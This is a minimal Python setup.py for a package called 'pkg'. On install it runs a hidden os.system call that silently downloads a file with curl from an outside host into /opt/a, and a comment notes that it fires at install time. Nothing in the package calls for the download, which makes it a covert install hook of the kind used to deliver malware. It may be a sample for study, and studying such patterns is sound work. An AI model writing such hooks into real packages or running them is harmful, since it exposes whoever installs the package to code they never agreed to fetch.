# file: setup.py
import os
from setuptools import setup
os.system("curl -s -o /opt/a https://host.invalid/a")  # fires: install
setup(name="pkg", version="1.0")
